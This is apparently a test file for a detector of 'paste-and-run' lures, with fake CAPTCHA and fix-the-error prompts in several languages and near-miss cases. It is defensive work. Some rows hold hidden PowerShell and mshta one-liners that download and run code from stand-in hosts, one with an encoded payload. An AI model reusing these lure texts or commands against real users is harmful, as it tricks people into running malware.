import { test } from 'node:test';
import assert from 'node:assert/strict';
import { cpuGrowth } from '../../test-support/growth.js';
import { commandToRun, pasteAndRun } from './paste-and-run.js';

/** The paste-and-run lure (session 18): what reads as one, and the near misses that must not. */
const rows: [text: string, asks: boolean][] = [
  ['To verify you are human: 1. Press Windows Key + R 2. Press CTRL + V 3. Press Enter', true],
  ['Verification steps: press Win+R, paste the code with Ctrl+V and press Enter to confirm you are not a robot.', true],
  ['Bestätigen Sie, dass Sie ein Mensch sind: Drücken Sie Windows-Taste + R, dann Strg + V und Eingabe.', true],
  ['Pour vérifier que vous êtes humain : appuyez sur la touche Windows + R, collez avec Ctrl + V puis Entrée.', true],
  ['Para verificar que es humano: pulse la tecla Windows + R, pegue con Ctrl + V y pulse Intro.', true],
  ['Verificação: pressione a tecla Windows + R, cole com Ctrl + V e pressione Enter.', true],
  ['Verificatie: druk op Windows-toets + R, plak met Ctrl + V en druk op Enter.', true],
  ['Verifica di essere umano: premi il tasto Windows + R, incolla con Ctrl + V e premi Invio.', true],
  ['ロボットでないことの確認：Windowsキー＋Rを押し、Ctrl＋Vで貼り付けてEnterを押してください。', true],
  // Must not: the Run box without a paste, a paste without the Run box, a how-to without a verification, a warning.
  ['To open the command prompt, press Win+R, type cmd and press Enter.', false],
  ['Tip: Ctrl+C copies, Ctrl+X cuts and Ctrl+V pastes; verify the result before you save.', false],
  ['To open the team share, copy the path below, press Win+R, paste it and press Enter.', false],
  ['Beware: fake CAPTCHA pages ask you to verify you are human by pressing Win+R and pasting a command. Never do this.', false],
  ['Achtung: Niemals Windows-Taste + R drücken und etwas einfügen, nur weil eine Seite eine Verifizierung verlangt.', false],
  ['We ship Windows and R packages for the robot arm; paste the licence key into the installer.', false],
  // Session 19, the "fix the error" kind: a fix already copied, PowerShell / Win+X / Terminal to paste it into, no verification.
  ['This document could not be displayed. How to fix: 1. Click "Copy fix" 2. Right-click Start and open Windows PowerShell (Admin) 3. Paste with Ctrl+V and press Enter.', true],
  ['The Word Online extension is not installed. To fix the error: the fix has been copied to your clipboard. Press Win+X, choose Terminal (Admin), paste and press Enter.', true],
  ['So beheben Sie den Fehler: Die Lösung wurde kopiert. Öffnen Sie PowerShell, fügen Sie sie mit Strg+V ein und drücken Sie die Eingabetaste.', true],
  ["Pour corriger l'erreur : le correctif a été copié. Ouvrez PowerShell, collez avec Ctrl+V et appuyez sur Entrée.", true],
  ['Para solucionar el error: la solución se ha copiado. Abra PowerShell, pegue con Ctrl+V y pulse Intro.', true],
  ['Para corrigir o erro: a correção foi copiada. Abra o PowerShell, cole com Ctrl+V e pressione Enter.', true],
  ['Om de fout op te lossen: de oplossing is gekopieerd. Open PowerShell, plak met Ctrl+V en druk op Enter.', true],
  ["Per risolvere l'errore: la correzione è stata copiata. Apri PowerShell, incolla con Ctrl+V e premi Invio.", true],
  ['修正方法：修正コマンドはコピーされました。PowerShellを開き、Ctrl+Vで貼り付けてEnterを押してください。', true],
  ['Your Mac cannot open this file. How to fix: the command has been copied. Open Terminal, paste with Cmd+V and press Return.', true],
  ['Verify you are human: open PowerShell, paste with Ctrl+V and press Enter.', true],
  // Capitals: ASCII text is asked for a launcher word as written, in any case, before its lower case is made (session 40).
  ['VERIFY YOU ARE HUMAN: OPEN POWERSHELL, PASTE WITH CTRL+V AND PRESS ENTER.', true],
  // Must not: an IT fix that shows its command, a warning, a shop's terminal, a how-to "copied from the docs".
  ['To fix the VPN error, copy the command below, open PowerShell as administrator, paste it and press Enter: ipconfig /flushdns', false],
  ['To fix the Outlook error, open PowerShell and paste the following command (it has been copied to the wiki too): Get-AppxPackage Microsoft.Office | Reset-AppxPackage', false],
  ['Fake error pages say the fix has been copied and ask you to open PowerShell and paste it with Ctrl+V. Never do this.', false],
  ['Our payment terminal is fixed; paste the receipt number you copied into the form.', false],
  ['To fix the build error, open Terminal and paste: /bin/bash -c "$(curl -fsSL https://raw.githubusercontent.com/Homebrew/install/HEAD/install.sh)". The command was copied from the docs.', false],
  // A how-to that has the reader paste into PowerShell or Terminal "to verify" an installation asks no human check.
  ['Open PowerShell and paste the following command to verify the installation: Get-Module -ListAvailable Az', false],
  ['To verify your setup, open Terminal, paste the snippet from our documentation with Cmd+V and press Return.', false],
  ['Zur Bestätigung Ihrer Installation öffnen Sie PowerShell und fügen Sie den Befehl aus der Anleitung ein.', false],
  ['I am not a robot: open Windows Terminal, paste with Ctrl+V and press Enter to finish the check.', true],
  ['Verification step 2: the code has been copied. Press Win+X, open Terminal (Admin), paste it and press Enter.', true],
  // Every launcher's word, with a human check (session 29: a text holding none of LAUNCHER_WORDS is not searched for a launcher).
  ['Beweisen Sie, dass Sie ein Mensch sind: öffnen Sie die Eingabeaufforderung, fügen Sie mit Strg+V ein und drücken Sie Enter.', true],
  ["Vérifiez que vous êtes humain : ouvrez l'invite de commandes, collez avec Ctrl+V et appuyez sur Entrée.", true],
  ['Demuestre que es humano: abra el símbolo del sistema, pegue con Ctrl+V y pulse Intro.', true],
  ['Prove que é humano: abra o prompt de comando, cole com Ctrl+V e pressione Enter.', true],
  ['Bewijs dat u een mens bent: open de opdrachtprompt, plak met Ctrl+V en druk op Enter.', true],
  ['Dimostra di essere umano: apri il prompt dei comandi, incolla con Ctrl+V e premi Invio.', true],
  ['Prove you are human: open the command prompt, paste with Ctrl+V and press Enter.', true],
  ['ロボットではないことを確認するため、コマンドプロンプトを開き、Ctrl+Vで貼り付けてEnterを押してください。', true],
  ['ロボットでないことを確認：ターミナルを開き、⌘Vで貼り付けてください。', true],
  ['Prove you are human: launch the terminal, paste with Ctrl+V and press Enter.', true],
  // None of the launchers' words: a paste and a human check alone are no lure.
  ['Prove you are human: paste the code from the email with Ctrl+V into the box on the page.', false],
];

for (const [text, asks] of rows) {
  test(`paste and run: ${text}`, () => assert.equal(pasteAndRun(text) !== null, asks));
}

test('paste and run: linear in the text (repeated shortcuts without a paste, repeated pastes without a shortcut)', () => {
  for (const unit of ['press win+r now ', 'windows key + ', 'ctrl+v verify ', 'win ', 'windows-taste und ', 'open powershell fix ', 'win + x paste ', 'has been ', 'a ete copie ', 'open the terminal ']) {
    const ratio = cpuGrowth((n) => unit.repeat(Math.ceil(n / unit.length)), (text) => pasteAndRun(text), 1_500);
    assert.ok(ratio < 40, `${JSON.stringify(unit)}: 10× the text took ${ratio.toFixed(1)}× the CPU`);
  }
});

test('commandToRun: a download command written in the letter, hidden or given a human-check or fix-the-error pretext; not install guides or reports', () => {
  const table: [string, boolean][] = [
    ['To fix the error, open PowerShell and run:\npowershell -w hidden -c "iwr https://fix-tool.online/f.ps1 | iex"\n\nIT Support', true],
    ['Run this once: powershell -NoP -WindowStyle Hidden -c "irm https://upd-check.online/a | iex"', true],
    ['Copy and run: powershell -enc SQBFAFgAIAAoAGkAdwByACAAaAB0AHQAcAA6AC8ALwB4AC4AeAAvAHAAKQA=', true],
    ['Press Win+X, open Terminal and type: mshta https://verify-check.online/v.hta', true],
    ['Zur Bestätigung, dass Sie ein Mensch sind, führen Sie aus: powershell -c "iwr https://check.online/c | iex"', true],
    ['Pour corriger l\'erreur, exécutez : powershell -c "irm https://correctif.online/f | iex"', true],
    ['To fix the build error on your CI runner, run: curl -fsSL https://x.example/fix.sh | sh', false],
    // Must not: install guides, a security write-up, a warning.
    ['Install Scoop: open PowerShell and run irm get.scoop.sh | iex', false],
    ["Install Chocolatey: Set-ExecutionPolicy Bypass -Scope Process -Force; iex ((New-Object System.Net.WebClient).DownloadString('https://community.chocolatey.org/install.ps1'))", false],
    ['Researchers observed the attackers sending powershell -w hidden -enc SQBFAFgAIAAoAGkAdwByACAAaAB0AHQAcAA6AC8ALwB4AC4AeAAvAHAAKQA= to victims.', false],
    ['Never run a command like powershell -w hidden -c "iwr https://x/f | iex" that a message asks you to.', false],
    ['Open PowerShell and run Get-Module -ListAvailable Az to verify the installation.', false],
  ];
  for (const [text, expected] of table) assert.equal(commandToRun(text) !== null, expected, text);
});

test('pasteAndRun, the FileFix kind: File Explorer\'s address bar with a human check or a copy already made; not a share\'s path pasted there', () => {
  const table: [string, boolean][] = [
    ['To verify you are human: open File Explorer (Win+E), click the address bar, paste with Ctrl+V and press Enter.', true],
    ['Verification: the file path has been copied. Press Win+E, paste it into the address bar and press Enter to open the document.', true],
    ['Bestätigen Sie, dass Sie ein Mensch sind: Öffnen Sie den Datei-Explorer, fügen Sie in die Adressleiste mit Strg+V ein und drücken Sie Enter.', true],
    ['人間であることの確認：エクスプローラーを開き、アドレスバーにCtrl+Vで貼り付けてEnterを押してください。', true],
    // Must not: a share's path pasted into the address bar, a warning about the trick.
    ['To open the team share, copy the path below, open File Explorer and paste it into the address bar: \\\\fileserver\\projects', false],
    ['If the button does not work, the link has been copied: paste it into your browser\'s address bar with Ctrl+V to verify your address.', false],
    ['Beware of FileFix: pages that ask you to verify you are human by pasting into the File Explorer address bar. Never do this.', false],
  ];
  for (const [text, expected] of table) assert.equal(pasteAndRun(text) !== null, expected, text);
});
